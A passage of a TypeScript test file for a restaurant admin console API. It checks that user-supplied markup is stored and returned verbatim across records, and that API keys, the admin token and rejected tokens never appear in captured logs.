    // The one field derived from the text, the item's slug, is made of safe characters.
    expect(item.slug).toMatch(/^[a-z0-9]+(?:-[a-z0-9]+)*$/);
    expect(integrator.name).toBe(markup);
    expect(key.name).toBe(markup);

    // Read back, and as stored: the same characters, neither escaped nor stripped.
    expect(json(await request(h.app).get(`/console/restaurants/${restaurant.id}`).set(h.admin), 200)).toMatchObject({
      name: markup,
      houseNotes: `${markup}\n${markup}`,
      concierge: { displayName: markup.slice(0, 80), welcomeMessage: markup },
    });
    expect(json(await request(h.app).get(`/console/restaurants/${restaurant.id}/sections`).set(h.admin), 200)).toEqual([
      expect.objectContaining({ id: section.id, name: markup }),
    ]);
    expect(json(await request(h.app).get(`/console/integrators/${integrator.id}`).set(h.admin), 200).name).toBe(markup);
    const listed = json(await request(h.app).get('/console/keys').query({ restaurantId: restaurant.id }).set(h.admin), 200);
    expect(listed.find((one: { id: string }) => one.id === key.id).name).toBe(markup);
    expect(
      await h.deps.db
        .selectFrom('items')
        .select(['name', 'description', 'dietary_tags'])
        .where('id', '=', item.id)
        .executeTakeFirstOrThrow(),
    ).toEqual({
      name: markup,
      description: markup,
      dietary_tags: [tag],
    });
    expect(
      await h.deps.db.selectFrom('restaurants').select(['name', 'house_notes']).where('id', '=', restaurant.id).executeTakeFirstOrThrow(),
    ).toEqual({ name: markup, house_notes: `${markup}\n${markup}` });
  });
});

// ---------------------------------------------------------------------------------------------------

/**
 * A pino logger writing JSON lines into memory, at every level and with no redaction: a secret must
 * never reach the logger at all (the production logger's redaction list is a second line, not this one).
 * pino is @partner/http's dependency, not console's: this loads that very copy.
 */
function memoryLogger(): { logger: Logger; lines: () => Record<string, unknown>[]; text: () => string } {
  const requireFromHttp = createRequire(new URL('../node_modules/@partner/http/package.json', import.meta.url));
  const pino = requireFromHttp('pino') as (options: { level: string }, stream: Writable) => Logger;
  const chunks: string[] = [];
  const stream = new Writable({
    write(chunk: Buffer | string, _encoding, done) {
      chunks.push(String(chunk));
      done();
    },
  });
  const text = () => chunks.join('');
  return {
    logger: pino({ level: 'trace' }, stream),
    text,
    lines: () =>
      text()
        .split('\n')
        .filter(Boolean)
        .map((line) => JSON.parse(line) as Record<string, unknown>),
  };
}

describe('logs', () => {
  it('never carry a created key, the admin token or a refused token', async () => {
    const logs = memoryLogger();
    const app = createApp({ ...h.deps, logger: logs.logger });
    const token = h.deps.adminToken;
    const admin = { Authorization: `Bearer ${token}` };

    const restaurant = await request(app)
      .post('/console/restaurants')
      .set(admin)
      .send({ name: 'Chez Log', slug: unique('chez-log'), currency: 'EUR' });
    expect(restaurant.status).toBe(201);
    const integrator = await seedIntegrator(h.deps);
    const keys = [
      await request(app)
        .post('/console/keys')
        .set(admin)
        .send({ restaurantId: restaurant.body.data.id, type: 'secret', environment: 'live', name: 'POS' }),
      await request(app)
        .post('/console/keys')
        .set(admin)
        .send({
          integratorOrgId: integrator.id,
          type: 'publishable',
          environment: 'test',
          name: 'web',
          allowedOrigins: ['https://a.test'],
        }),
    ].map((res) => {
      expect(res.status).toBe(201);
      return res.body.data as { id: string; value: string };
    });
    await request(app).get('/console/keys').query({ restaurantId: restaurant.body.data.id }).set(admin).expect(200);
    await request(app).post(`/console/keys/${keys[0]!.id}/revoke`).set(admin).expect(200);

    const refusedTokens = [flip(token, token.length - 1), token.slice(0, -3), `${token}${token}`];
    for (const wrong of refusedTokens) {
      for (const headers of [
        { Authorization: `Bearer ${wrong}` },
        { Authorization: `Basic ${Buffer.from(`admin:${wrong}`).toString('base64')}` },
      ]) {
        expectError(
          await request(app)
            .post('/console/keys')
            .set(headers)
            .send({ restaurantId: restaurant.body.data.id, type: 'secret', environment: 'live', name: 'x' }),
          401,
          'unauthorized',
        );
      }
    }
    // A request that does log (the webhooks service is down: 503, logged as a dependency fault with its
    // cause), sent with the admin token: the capture works, and still shows no secret.
    const failed = await request(app).get('/console/webhook-deliveries').set(admin);
    expectError(failed, 503, 'service_unavailable');
    expect(logs.lines()).toContainEqual(expect.objectContaining({ level: 40, requestId: failed.body.error.requestId }));

    const written = logs.text();
    for (const secret of [token, ...refusedTokens, ...keys.map((key) => key.value), ...keys.map((key) => secretPartOf(key.value))]) {
      expect(written).not.toContain(secret);
    }
  });
});
